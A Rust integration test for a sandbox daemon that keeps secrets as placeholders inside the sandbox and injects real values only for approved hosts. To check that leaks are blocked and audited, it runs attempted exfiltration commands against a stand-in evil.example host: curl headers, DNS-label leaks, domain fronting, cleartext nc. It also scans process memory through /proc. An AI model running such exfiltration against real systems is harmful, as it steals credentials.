//! Secrets at egress (docs/secrets.md), in the network tests' topology of test-made namespaces: a
//! TLS server of the test's own "internet" logs every request it receives and answers with the
//! request's headers (an echo, as a server that reflects a token would). The sandbox holds only
//! placeholders; the value must arrive at the right host, never at another, never be visible inside
//! (environment, files, a scan of its processes' memory, the answer that echoed it), never appear
//! in an API answer or the daemon's log; a placeholder headed elsewhere is refused, logged with rule
//! `secret`, audited, and (when the policy asks) the sandbox is paused or snapshotted.

use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};
use std::time::Duration;

use moat_api::{CreateSandboxRequest, NetworkPolicy, SecretInject, SecretSpec, SecretViolation};
use moat_client::Client;

use crate::harness::*;
use crate::topology::*;

const TOKEN: &str = "ghp_REALtoken0123456789abcdefXYZ";
const ROTATED: &str = "ghp_ROTATEDtoken987654321zyxwvu";
const API_KEY: &str = "sk-live-HEADERvalue-5566778899";
const OTHER: &str = "other-REALvalue-for-also-example";
const BODY: &str = "body-REALvalue-in-request-bodies";

fn openssl(args: &[&str]) {
    let out = Command::new("openssl")
        .args(args)
        .output()
        .expect("openssl");
    assert!(
        out.status.success(),
        "openssl {args:?}: {}",
        String::from_utf8_lossy(&out.stderr)
    );
}

/// A CA of the test's own and, signed by it, a certificate for each name (the servers').
fn test_ca(dir: &Path) -> PathBuf {
    let d = dir.join("secret-certs");
    std::fs::create_dir_all(&d).unwrap();
    let p = |n: &str| d.join(n).display().to_string();
    openssl(&[
        "req",
        "-x509",
        "-newkey",
        "rsa:2048",
        "-nodes",
        "-days",
        "2",
        "-subj",
        "/CN=test root",
        "-keyout",
        &p("ca.key"),
        "-out",
        &p("ca.crt"),
    ]);
    for (name, sans) in [
        ("good", "DNS:good.example,DNS:also.example"),
        ("evil", "DNS:evil.example"),
    ] {
        openssl(&[
            "req",
            "-newkey",
            "rsa:2048",
            "-nodes",
            "-subj",
            &format!("/CN={name}"),
            "-keyout",
            &p(&format!("{name}.key")),
            "-out",
            &p(&format!("{name}.csr")),
        ]);
        std::fs::write(
            d.join(format!("{name}.ext")),
            format!("subjectAltName={sans}\n"),
        )
        .unwrap();
        openssl(&[
            "x509",
            "-req",
            "-in",
            &p(&format!("{name}.csr")),
            "-CA",
            &p("ca.crt"),
            "-CAkey",
            &p("ca.key"),
            "-CAcreateserial",
            "-days",
            "2",
            "-extfile",
            &p(&format!("{name}.ext")),
            "-out",
            &p(&format!("{name}.crt")),
        ]);
    }
    d
}

/// An HTTPS echo server on `addr:8443` (in the test's "internet"): every request is appended to
/// `log` (request line, headers, body) and answered with its headers.
fn echo_server(
    topo: &Topology,
    certs: &Path,
    name: &str,
    addr: &str,
    log: &Path,
) -> std::process::Child {
    let script = format!(
        "import http.server, ssl, sys\n\
         class H(http.server.BaseHTTPRequestHandler):\n\
         \x20   protocol_version = 'HTTP/1.1'\n\
         \x20   def handle_any(self):\n\
         \x20       if self.path == '/ws':\n\
         \x20           open('{log}', 'ab').write((self.requestline + '\\n' + str(self.headers)).encode())\n\
         \x20           self.send_response(101); self.send_header('upgrade', 'websocket'); self.send_header('connection', 'Upgrade')\n\
         \x20           self.end_headers(); self.wfile.flush()\n\
         \x20           line = self.rfile.readline(); open('{log}', 'ab').write(b'after upgrade: ' + line + b'----\\n')\n\
         \x20           self.wfile.write(b'echo:' + line); self.wfile.flush(); self.close_connection = True; return\n\
         \x20       n = int(self.headers.get('content-length') or 0)\n\
         \x20       body = self.rfile.read(n) if n else b''\n\
         \x20       rec = (self.requestline + '\\n' + str(self.headers)).encode() + body + b'\\n----\\n'\n\
         \x20       open('{log}', 'ab').write(rec)\n\
         \x20       out = str(self.headers).encode() + body\n\
         \x20       self.send_response(200); self.send_header('content-length', str(len(out))); self.end_headers(); self.wfile.write(out)\n\
         \x20   do_GET = do_POST = do_PUT = handle_any\n\
         \x20   def log_message(self, *a): pass\n\
         s = http.server.ThreadingHTTPServer(('{addr}', 8443), H)\n\
         c = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER); c.load_cert_chain('{certs}/{name}.crt', '{certs}/{name}.key')\n\
         s.socket = c.wrap_socket(s.socket, server_side=True)\n\
         s.serve_forever()\n",
        log = log.display(),
        certs = certs.display(),
    );
    Command::new("ip")
        .args(["netns", "exec", &topo.internet, "python3", "-c", &script])
        .stdin(Stdio::null())
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .spawn()
        .expect("start the echo server")
}

/// The busybox root filesystem plus the host's curl and openssl and the libraries they load (real
/// TLS clients that read the system trust bundle; curl speaks HTTP/2 and HTTP/1.1, `openssl
/// s_client` carries a WebSocket upgrade by hand).
fn with_curl(root: &Path) {
    let mut files = Vec::new();
    for bin in ["/usr/bin/curl", "/usr/bin/openssl"] {
        let out = Command::new("ldd").arg(bin).output().unwrap();
        let text = String::from_utf8_lossy(&out.stdout).into_owned();
        files.push(PathBuf::from(bin));
        for l in text.lines() {
            if let Some(p) = l
                .split_whitespace()
                .find(|w| w.starts_with('/'))
                .map(PathBuf::from)
            {
                files.push(p);
            }
        }
    }
    for f in files {
        let dst = root.join(f.strip_prefix("/").unwrap());
        std::fs::create_dir_all(dst.parent().unwrap()).unwrap();
        std::fs::copy(std::fs::canonicalize(&f).unwrap(), &dst).unwrap();
    }
}

/// `curl` from inside the sandbox: (stdout, exit code).
async fn curl(c: &Client, id: &str, args: &str) -> (String, i32) {
    let out = sh(
        c,
        id,
        &format!(
            "curl -sS -m 10 --resolve good.example:8443:{INTERNET} --resolve also.example:8443:{INTERNET} \
             --resolve evil.example:8443:{EVIL} {args} 2>&1"
        ),
    )
    .await;
    (out.stdout, out.exit.exit_code.unwrap_or(-1))
}

fn spec(name: &str, value: &str, host: &str) -> SecretSpec {
    SecretSpec {
        name: name.into(),
        value: value.into(),
        hosts: vec![host.into()],
        inject: SecretInject::Placeholder,
        header: None,
        format: None,
        body: false,
    }
}

/// What a probe inside the sandbox finds of the values (NULs turned into line ends: busybox grep
/// stops a line at a NUL), which it reads from its stdin (never from
/// its command line or a file the API wrote: the audit log and /proc would then hold them): in every
/// process's environment and command line, in the files, and in the memory of every process but
/// itself and the agent (PID 1, which passed the values to it), read through /proc/PID/mem. The
/// placeholder of GITHUB_TOKEN is looked for the same way, as a control that the search finds
/// what is there.
const PROBE: &str = r#"mkdir -p /var/probe; cat > /var/probe/needles
env=$(cat /proc/[0-9]*/environ /proc/[0-9]*/cmdline 2>/dev/null | tr '\000' '\n' | grep -c -F -f /var/probe/needles)
files=$(grep -r -l -F -f /var/probe/needles /etc /root /tmp /bin 2>/dev/null | wc -l)
cenv=$(cat /proc/[0-9]*/environ 2>/dev/null | tr '\000' '\n' | grep -c -F "$GITHUB_TOKEN")
n=0; read=0; found=0; control=0
for m in /proc/[0-9]*/maps; do
  p=${m%/maps}; pid=${p#/proc/}
  [ "$pid" = "$$" ] && continue; [ "$pid" = 1 ] && continue
  while read -r range perms rest; do
    case $perms in r*) ;; *) continue ;; esac
    s=$((0x${range%-*})); e=$((0x${range#*-}))
    dd if=$p/mem bs=4096 skip=$((s/4096)) count=$(((e-s)/4096)) 2>/dev/null | tr '\000' '\n' > /var/probe/region
    [ -s /var/probe/region ] && read=$((read+1))
    grep -q -F -f /var/probe/needles /var/probe/region && found=$((found+1))
    grep -q -F "$GITHUB_TOKEN" /var/probe/region && control=$((control+1))
    n=$((n+1)); rm -f /var/probe/region
  done < $m
done
echo "env=$env files=$files control_env=$cenv regions=$n read=$read found=$found control=$control" > /var/probe/result"#;

/// Runs [`PROBE`] for `needles` and returns its result line.
async fn probe(c: &Client, id: &str, needles: &[&str]) -> String {
    sh(c, id, "rm -rf /var/probe").await;
    let p = c
        .start_process_background(
            id,
            &moat_api::StartProcessRequest {
                cmd: Some(vec!["/bin/sh".into(), "-c".into(), PROBE.into()]),
                stdin: true,
                tag: Some("probe".into()),
                ..Default::default()
            },
        )
        .await
        .unwrap();
    let mut input = needles.join("\n");
    input.push('\n');
    c.send_stdin(id, "probe", input).await.unwrap();
    c.close_stdin(id, "probe").await.unwrap();
    for _ in 0..600 {
        let r = sh(c, id, "cat /var/probe/result 2>/dev/null").await;
        if !r.stdout.is_empty() {
            return r.stdout.trim().to_string();
        }
        tokio::time::sleep(Duration::from_millis(200)).await;
    }
    panic!("the probe (pid {}) did not finish", p.pid);
}

/// gVisor: the application memory of sandbox `id` is the Sentry's memory file (a memfd the
/// runsc processes in its cgroup hold); reads its data (holes skipped) for `needles` and for
/// `control`. (bytes read, needles found, control found).
fn sentry_memory_scan(id: &str, needles: &[&str], control: &str) -> (u64, u64, u64) {
    use std::io::{Read, Seek, SeekFrom};
    use std::os::fd::AsRawFd;
    let (mut bytes, mut found, mut seen) = (0u64, 0u64, 0u64);
    let mut done = std::collections::HashSet::new();
    for pid in cgroup_procs(id) {
        let Ok(fds) = std::fs::read_dir(format!("/proc/{pid}/fd")) else {
            continue;
        };
        for fd in fds.flatten() {
            let Ok(target) = std::fs::read_link(fd.path()) else {
                continue;
            };
            let t = target.display().to_string();
            if !t.starts_with("/memfd:") {
                continue;
            }
            let Ok(mut f) = std::fs::File::open(fd.path()) else {
                continue;
            };
            let Ok(m) = f.metadata() else { continue };
            // One memory file, however many descriptors name it.
            if !done.insert(std::os::unix::fs::MetadataExt::ino(&m)) {
                continue;
            }
            let size = m.len() as i64;
            let mut off = 0i64;
            let mut buf = vec![0u8; 4 << 20];
            let keep = 256;
            while off < size {
                // SAFETY: lseek on a descriptor this function owns.
                let data = unsafe { libc::lseek(f.as_raw_fd(), off, libc::SEEK_DATA) };
                if data < 0 {
                    break;
                }
                // SAFETY: as above.
                let hole = unsafe { libc::lseek(f.as_raw_fd(), data, libc::SEEK_HOLE) };
                let end = if hole < 0 { size } else { hole };
                f.seek(SeekFrom::Start(data as u64)).unwrap();
                let mut left = (end - data) as usize;
                let mut tail: Vec<u8> = Vec::new();
                while left > 0 {
                    let want = left.min(buf.len());
                    let n = f.read(&mut buf[..want]).unwrap_or(0);
                    if n == 0 {
                        break;
                    }
                    let mut hay = std::mem::take(&mut tail);
                    hay.extend_from_slice(&buf[..n]);
                    for nd in needles {
                        found += memchr::memmem::find_iter(&hay, nd.as_bytes()).count() as u64;
                    }
                    seen += memchr::memmem::find_iter(&hay, control.as_bytes()).count() as u64;
                    tail = hay[hay.len().saturating_sub(keep)..].to_vec();
                    bytes += n as u64;
                    left -= n;
                }
                off = end;
            }
        }
    }
    (bytes, found, seen)
}

fn field(result: &str, name: &str) -> u64 {
    result
        .split_whitespace()
        .find_map(|kv| kv.strip_prefix(&format!("{name}=")))
        .and_then(|v| v.parse().ok())
        .unwrap_or_else(|| panic!("{name} in {result:?}"))
}

#[tokio::test(flavor = "multi_thread")]
async fn secrets_reach_only_their_hosts_and_never_the_sandbox() {
    let tmp = tempfile::tempdir().unwrap();
    let certs = test_ca(tmp.path());
    let ca = certs.join("ca.crt");
    let (topo, d, c, _deny) = networked_daemon(
        tmp.path(),
        "10.203.0.0/16",
        &["--egress-ca-file", ca.to_str().unwrap()],
    )
    .await;
    let good_log = tmp.path().join("good.log");
    let evil_log = tmp.path().join("evil.log");
    let mut servers = vec![
        echo_server(&topo, &certs, "good", INTERNET, &good_log),
        echo_server(&topo, &certs, "evil", EVIL, &evil_log),
    ];
    // The bb template with curl in it.
    let root = tmp.path().join("bbroot");
    with_curl(&root);
    c.register_template(&moat_api::RegisterTemplateRequest {
        name: "bbc".into(),
        path: root.display().to_string(),
    })
    .await
    .unwrap();
    let policy = NetworkPolicy {
        allow_internet: false,
        allow_out: vec![
            "good.example".into(),
            "also.example".into(),
            "evil.example".into(),
            format!("{INTERNET}/32"),
        ],
        on_secret_violation: SecretViolation::BlockAndPause,
        ..Default::default()
    };
    let s = c
        .create_sandbox(&CreateSandboxRequest {
            template: Some("bbc".into()),
            timeout: Some(600),
            network: Some(policy.clone()),
            secrets: vec![
                spec("GITHUB_TOKEN", TOKEN, "good.example"),
                SecretSpec {
                    inject: SecretInject::Header,
                    header: Some("X-Api-Key".into()),
                    format: Some("{value}".into()),
                    ..spec("API_KEY", API_KEY, "good.example")
                },
                spec("OTHER", OTHER, "also.example"),
                SecretSpec {
                    body: true,
                    ..spec("BODY_SECRET", BODY, "good.example")
                },
            ],
            ..Default::default()
        })
        .await
        .unwrap();
    let id = s.id.clone();

    // Inside: placeholders only, in the environment, in every process's, in the files.
    let listed = c.secrets(&id).await.unwrap();
    let ph = |n: &str| {
        listed
            .iter()
            .find(|x| x.name == n)
            .and_then(|x| x.placeholder.clone())
            .unwrap()
    };
    let token_ph = ph("GITHUB_TOKEN");
    assert!(token_ph.starts_with("moat-secret-"), "{listed:?}");
    let env = sh(&c, &id, "echo $GITHUB_TOKEN; echo $OTHER").await;
    assert_eq!(env.stdout, format!("{token_ph}\n{}\n", ph("OTHER")));
    // gVisor: its /proc has no PID/mem to read from inside, and everything the sandbox has —
    // processes' memory and environment, its files (a memory-backed overlay) — is in the Sentry's
    // memory file, which the host reads instead. The values are never handed in to look for, so
    // what is found there is a leak and nothing else.
    let gvisor = isolation() == moat_api::Isolation::Gvisor;
    if gvisor {
        let (bytes, found, control) =
            sentry_memory_scan(&id, &[TOKEN, API_KEY, OTHER, BODY], &token_ph);
        assert!(
            bytes > 0 && control > 0,
            "the host-side scan read nothing or missed the control"
        );
        assert_eq!(found, 0, "a value in the sandbox's memory or files");
    } else {
        let r = probe(&c, &id, &[TOKEN, API_KEY, OTHER, BODY]).await;
        assert_eq!((field(&r, "env"), field(&r, "files")), (0, 0), "{r}");
        assert!(
            field(&r, "control_env") > 0,
            "the control was not found: {r}"
        );
    }

    // The right host gets the value: in a header the code wrote (over HTTP/2 to the proxy, HTTP/1.1
    // to the server), as a Basic password, and the injected header the code never wrote. What the
    // server echoed comes back with placeholders again.
    let (echo, code) = curl(
        &c,
        &id,
        "-H \"Authorization: Bearer $GITHUB_TOKEN\" https://good.example:8443/repos?t=$GITHUB_TOKEN",
    )
    .await;
    assert_eq!(code, 0, "{echo}");
    let log = std::fs::read_to_string(&good_log).unwrap();
    // (Header names arrive in lower case: HTTP/2 from curl to the proxy.)
    let has = |log: &str, line: &str| {
        log.to_ascii_lowercase()
            .contains(&line.to_ascii_lowercase())
    };
    assert!(
        has(&log, &format!("Authorization: Bearer {TOKEN}")),
        "{log}"
    );
    assert!(log.contains(&format!("/repos?t={TOKEN}")), "{log}");
    assert!(has(&log, &format!("x-api-key: {API_KEY}")), "{log}");
    assert!(!echo.contains(TOKEN) && !echo.contains(API_KEY), "{echo}");
    assert!(has(&echo, &format!("Bearer {token_ph}")), "{echo}");
    let (_, code) = curl(
        &c,
        &id,
        "--http1.1 -u \"git:$GITHUB_TOKEN\" https://good.example:8443/basic",
    )
    .await;
    assert_eq!(code, 0);
    use base64::Engine;
    let basic = base64::engine::general_purpose::STANDARD.encode(format!("git:{TOKEN}"));
    let log = std::fs::read_to_string(&good_log).unwrap();
    assert!(log.contains(&format!("Basic {basic}")), "{log}");
    assert!(
        has(&log, "GET /basic HTTP/1.1\nhost: good.example:8443"),
        "HTTP/1.1 all the way: {log}"
    );
    // Bodies: replaced only for a secret that asks for it (body: true); another's placeholder in a
    // body to its own host goes as written.
    let (_, code) = curl(
        &c,
        &id,
        "-d \"a=$BODY_SECRET&b=$GITHUB_TOKEN\" https://good.example:8443/form",
    )
    .await;
    assert_eq!(code, 0);
    let log = std::fs::read_to_string(&good_log).unwrap();
    assert!(log.contains(&format!("a={BODY}&b={token_ph}")), "{log}");
    eprintln!("step: A shell that keeps what the server echoe");
    // A shell that keeps what the server echoed, and every other process: no value in memory.
    let holder = format!(
        "R=$(curl -sS -m 10 --resolve good.example:8443:{INTERNET} -H \"Authorization: Bearer $GITHUB_TOKEN\" \
         https://good.example:8443/held); echo \"$R\" | grep -c -F \"$GITHUB_TOKEN\" > /tmp/held; sleep 600"
    );
    c.start_process_background(
        &id,
        &moat_api::StartProcessRequest {
            cmd: Some(vec!["/bin/sh".into(), "-c".into(), holder]),
            ..Default::default()
        },
    )
    .await
    .unwrap();
    let mut held = String::new();
    for _ in 0..100 {
        held = sh(&c, &id, "cat /tmp/held 2>/dev/null").await.stdout;
        if !held.is_empty() {
            break;
        }
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
    assert_eq!(held.trim(), "1", "the echo holds the placeholder");
    if gvisor {
        let (bytes, found, control) = sentry_memory_scan(&id, &[TOKEN, API_KEY, BODY], &token_ph);
        eprintln!("memory scan of the Sentry's memory file: {bytes} bytes, found {found}, control {control}");
        assert!(
            bytes > 0 && control > 0,
            "the host-side scan read nothing or missed the control"
        );
        assert_eq!(found, 0, "a value in the sandbox's memory");
    } else {
        let r = probe(&c, &id, &[TOKEN, API_KEY, BODY]).await;
        assert!(
            field(&r, "read") > 0 && field(&r, "control") > 0,
            "the memory scan read nothing, or missed the placeholder it should find: {r}"
        );
        assert_eq!(field(&r, "found"), 0, "a value in a process's memory: {r}");
        eprintln!("memory probe on {:?}: {r}", isolation());
    }

    // Domain fronting: a request for another host inside a connection terminated for the secret's
    // host is refused (421), the value never sent.
    let (out, _) = curl(
        &c,
        &id,
        "--http1.1 -H 'Host: evil.example' -H \"Authorization: Bearer $GITHUB_TOKEN\" https://good.example:8443/fronted",
    )
    .await;
    assert!(
        out.contains("a request for evil.example is refused"),
        "{out}"
    );
    assert!(!std::fs::read_to_string(&good_log)
        .unwrap()
        .contains("/fronted"));

    // Another host never gets it: TLS to evil.example is not intercepted, so the placeholder (a
    // worthless string) is all it can see.
    let (out, code) = curl(
        &c,
        &id,
        "-k -v -o /dev/null -H \"Authorization: Bearer $GITHUB_TOKEN\" https://evil.example:8443/",
    )
    .await;
    assert_eq!(code, 0, "{out}");
    assert!(
        out.contains("issuer: CN=test root"),
        "not the server's own certificate: {out}"
    );
    let evil = std::fs::read_to_string(&evil_log).unwrap();
    assert!(evil.contains(&token_ph) && !evil.contains(TOKEN), "{evil}");

    eprintln!("step: Rotation");
    // Rotation: the next connection carries the new value.
    c.put_secret(&id, &spec("GITHUB_TOKEN", ROTATED, "good.example"))
        .await
        .unwrap();
    let (_, code) = curl(
        &c,
        &id,
        "-H \"Authorization: Bearer $GITHUB_TOKEN\" https://good.example:8443/rotated",
    )
    .await;
    assert_eq!(code, 0);
    let log = std::fs::read_to_string(&good_log).unwrap();
    assert!(
        has(&log, &format!("Authorization: Bearer {ROTATED}")),
        "{log}"
    );

    eprintln!("step: A WebSocket upgrade (HTTP/1.1)");
    // A WebSocket upgrade (HTTP/1.1): its headers carry the value; after the 101 the bytes pass
    // through as they are, both ways.
    let ws = sh(
        &c,
        &id,
        &format!(
            "printf 'GET /ws HTTP/1.1\\r\\nHost: good.example:8443\\r\\nUpgrade: websocket\\r\\n\
             Connection: Upgrade\\r\\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\\r\\n\
             Sec-WebSocket-Version: 13\\r\\nAuthorization: Bearer %s\\r\\n\\r\\nframes %s\\n' \
             \"$GITHUB_TOKEN\" \"$GITHUB_TOKEN\" | busybox timeout 20 openssl s_client -connect {INTERNET}:8443 \
             -servername good.example -quiet -verify_return_error \
             -CAfile /etc/ssl/certs/ca-certificates.crt 2>&1"
        ),
    )
    .await;
    assert!(ws.stdout.contains("HTTP/1.1 101"), "{ws:?}");
    assert!(
        ws.stdout.contains(&format!("echo:frames {token_ph}")),
        "{ws:?}"
    );
    let log = std::fs::read_to_string(&good_log).unwrap();
    let ws_req = log
        .split("----")
        .find(|r| r.contains("GET /ws"))
        .unwrap_or("");
    assert!(
        ws_req
            .to_ascii_lowercase()
            .contains(&format!("bearer {}", ROTATED.to_ascii_lowercase())),
        "{log}"
    );
    assert!(
        ws_req.contains(&format!("after upgrade: frames {token_ph}")),
        "{log}"
    );

    eprintln!("step: Violations, each refused and logged");
    // Violations, each refused and logged with rule `secret`: OTHER's placeholder to good.example
    // (a host it does not belong to) inside an intercepted connection, a placeholder in clear, in
    // a DNS question, in a TLS server name.
    // block_and_pause: the sandbox is paused by the first violation (the command is frozen with it
    // until the resume below, so it runs beside the wait).
    let leak = {
        let (c, id) = (c.clone(), id.clone());
        tokio::spawn(async move {
            curl(
                &c,
                &id,
                "-H \"X-Leak: $OTHER\" https://good.example:8443/leak",
            )
            .await
        })
    };
    let mut paused = false;
    for _ in 0..100 {
        if c.get_sandbox(&id).await.unwrap().state == moat_api::SandboxState::Paused {
            paused = true;
            break;
        }
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
    assert!(paused, "the violation did not pause the sandbox");
    c.resume_sandbox(&id, &Default::default()).await.unwrap();
    let (out, _) = leak.await.unwrap();
    assert!(out.contains("may not go to good.example"), "{out}");
    assert!(!std::fs::read_to_string(&good_log)
        .unwrap()
        .contains("/leak"));
    let mut p = policy.clone();
    p.on_secret_violation = SecretViolation::BlockAndSnapshot;
    c.set_network(&id, &p).await.unwrap();
    for (args, what) in [
        ("https://good.example:8443/u?o=$OTHER", "url"),
        ("-d \"o=$OTHER\" https://good.example:8443/b", "body"),
    ] {
        let (out, _) = curl(&c, &id, args).await;
        assert!(out.contains("may not go to good.example"), "{what}: {out}");
    }
    let clear = sh(
        &c,
        &id,
        &format!("printf 'GET /?k=%s HTTP/1.0\\r\\n\\r\\n' \"$GITHUB_TOKEN\" | busybox nc -w 3 {INTERNET} 8080; echo rc=$?"),
    )
    .await;
    assert!(!clear.stdout.contains("200 OK"), "{clear:?}");
    sh(&c, &id, "busybox nslookup $GITHUB_TOKEN.evil.example; true").await;
    let (_, code) = curl(&c, &id, "-k https://$GITHUB_TOKEN.evil.example:8443/ --resolve $GITHUB_TOKEN.evil.example:8443:198.51.100.3").await;
    assert_ne!(code, 0);
    let q = moat_api::NetworkLogQuery {
        limit: Some(1000),
        ..Default::default()
    };
    let mut places = Vec::new();
    for _ in 0..100 {
        let log = c.network_log(&id, &q).await.unwrap();
        places = log
            .iter()
            .filter(|e| e.rule == "secret")
            .map(|e| (e.protocol.clone(), e.error.clone().unwrap_or_default()))
            .collect();
        if places.len() >= 6 {
            break;
        }
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
    let text = format!("{places:?}");
    assert!(
        text.contains("OTHER headed to good.example, a host it does not belong to (in the header)"),
        "{text}"
    );
    assert!(
        text.contains("(in the url)") && text.contains("(in the body)"),
        "{text}"
    );
    assert!(text.contains("in clear"), "{text}");
    assert!(text.contains("DNS question"), "{text}");
    assert!(text.contains("(in the sni)"), "{text}");
    // Audited; the snapshot the policy asked for is named in the entry.
    let mut snap = None;
    for _ in 0..100 {
        let a = c
            .sandbox_audit(
                &id,
                &moat_api::AuditQuery {
                    action: Some("secret.violation".into()),
                    ..Default::default()
                },
            )
            .await
            .unwrap();
        snap = a
            .iter()
            .filter(|e| e.action == "secret.violation")
            .find_map(|e| {
                e.detail
                    .get("snapshot")
                    .and_then(|s| s.as_str())
                    .map(str::to_string)
            });
        if snap.is_some() {
            break;
        }
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
    let Some(snap) = snap else {
        panic!(
            "no secret.violation entry naming a snapshot: {:#?}",
            c.sandbox_audit(&id, &Default::default()).await.unwrap()
        );
    };
    assert!(c
        .get_snapshot(&snap)
        .await
        .unwrap()
        .name
        .unwrap()
        .starts_with("secret-violation-"));

    // Never in an API answer, never in the daemon's log.
    let answers = format!(
        "{:?}{:?}{:?}{:?}",
        c.get_sandbox(&id).await.unwrap(),
        c.secrets(&id).await.unwrap(),
        c.network_log(&id, &q).await.unwrap(),
        c.audit(&moat_api::AuditQuery {
            limit: Some(10_000),
            ..Default::default()
        })
        .await
        .unwrap(),
    );
    let daemon_log = std::fs::read_to_string(d.data_dir.join("daemon.log")).unwrap_or_default();
    for v in [TOKEN, ROTATED, API_KEY, OTHER, BODY] {
        assert!(!answers.contains(v), "{v} in an answer");
        assert!(!daemon_log.contains(v), "{v} in the daemon's log");
    }
    // block_and_kill: the next violation ends the sandbox, and its record says why.
    let mut p = policy.clone();
    p.on_secret_violation = SecretViolation::BlockAndKill;
    c.set_network(&id, &p).await.unwrap();
    // In the background: the sandbox ends under the command.
    c.start_process_background(
        &id,
        &moat_api::StartProcessRequest {
            command: Some("busybox nslookup $GITHUB_TOKEN.evil.example".into()),
            ..Default::default()
        },
    )
    .await
    .unwrap();
    let mut ended = None;
    for _ in 0..200 {
        let s = c.get_sandbox(&id).await.unwrap();
        if s.state == moat_api::SandboxState::Ended {
            ended = s.ended;
            break;
        }
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
    let ended = ended.expect("the violation did not end the sandbox");
    assert_eq!(ended.reason, moat_api::Reason::KilledByPolicy);
    assert!(
        ended.message.contains("GITHUB_TOKEN") && !ended.message.contains(ROTATED),
        "{ended:?}"
    );

    // With the internet allowed (the daemon's default policy) it works the same.
    let open = c
        .create_sandbox(&CreateSandboxRequest {
            template: Some("bbc".into()),
            timeout: Some(300),
            secrets: vec![spec("GITHUB_TOKEN", TOKEN, "good.example")],
            ..Default::default()
        })
        .await
        .unwrap();
    assert!(open.network.as_ref().unwrap().policy.allow_internet);
    let (out, code) = curl(
        &c,
        &open.id,
        "-H \"Authorization: Bearer $GITHUB_TOKEN\" https://good.example:8443/open",
    )
    .await;
    assert_eq!(code, 0, "{out}");
    let log = std::fs::read_to_string(&good_log).unwrap();
    let open_req = log
        .split("----")
        .find(|r| r.contains("GET /open"))
        .unwrap_or("");
    assert!(open_req.contains(TOKEN), "{log}");
    c.delete_sandbox(&open.id).await.unwrap();
    for s in &mut servers {
        let _ = s.kill();
        let _ = s.wait();
    }
}
